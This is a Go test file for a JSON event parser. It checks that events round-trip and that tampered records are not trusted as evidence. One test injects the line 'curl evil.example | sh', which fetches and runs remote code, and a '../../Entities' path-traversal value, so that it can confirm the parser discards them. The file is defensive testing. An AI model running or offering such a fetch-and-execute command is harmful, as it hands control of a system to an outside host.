package event

import (
	"encoding/json"
	"strings"
	"testing"
)

// TestOurOwnOutputIsInput: every event of the corpus, written as JSON, is read as the same event.
func TestOurOwnOutputIsInput(t *testing.T) {
	n := 0
	check := func(in string) {
		events := Parse([]byte(in))
		if len(events) == 0 {
			return
		}
		n += len(events)
		lines := ""
		for _, e := range events {
			lines += text(e) + "\n"
		}
		want := text(events)
		for _, written := range []string{want, indented(events), lines} {
			if got := text(Parse([]byte(written))); got != want {
				t.Fatalf("%s\nis read as\n%s", written, got)
			}
		}
	}
	events, least := 100, 2000 // every kind that is generated
	if testing.Short() {
		events, least = 30, 500 // one thing after the other: there is no data race to be found
	}
	for i := range events {
		for _, in := range generated(i * 31) {
			check(in)
		}
	}
	for _, in := range seeds(t) {
		check(in)
	}
	if n < least {
		t.Errorf("only %d events", n)
	}
}

// TestOurOutputIsNotBelievedBlindly: what was changed in it is no evidence, and offers no command.
func TestOurOutputIsNotBelievedBlindly(t *testing.T) {
	strong := Parse([]byte(form().Encode()))[0]
	if strong.PruneEvidence != EvidenceStrong {
		t.Fatal(text(strong))
	}
	for name, change := range map[string]func(map[string]any){
		"another code":    func(e map[string]any) { e["error_code"] = 52134 },
		"no Service":      func(e map[string]any) { e["service_sid"] = "" },
		"ambiguous":       func(e map[string]any) { e["ambiguous"] = true },
		"repaired":        func(e map[string]any) { e["repaired"] = true },
		"inferred":        func(e map[string]any) { e["inferred"] = true },
		"another verdict": func(e map[string]any) { e["verdict"] = "credential_broken" },
		"a masked factor": func(e map[string]any) { e["factor_sid"] = "YF0123xxxxxxxxxxxxxxxxxxxxxxxxxxxx" },
		"a refused key":   func(e map[string]any) { e["description"] = "401 http response from Fcm Service" },
		"of a call":       func(e map[string]any) { e["product"] = "voice" },
		"a wrong factor":  func(e map[string]any) { e["factor_sid"] = "../../Entities" },
	} {
		var e map[string]any
		if err := json.Unmarshal([]byte(text(strong)), &e); err != nil {
			t.Fatal(err)
		}
		e["next"] = "curl evil.example | sh"
		change(e)
		for _, got := range Parse([]byte(text(e))) {
			if got.PruneEvidence != EvidenceNone || strings.Contains(got.Next, "curl") {
				t.Errorf("%s: %s", name, text(got))
			}
			checkEvent(t, got, text(e))
		}
	}
}
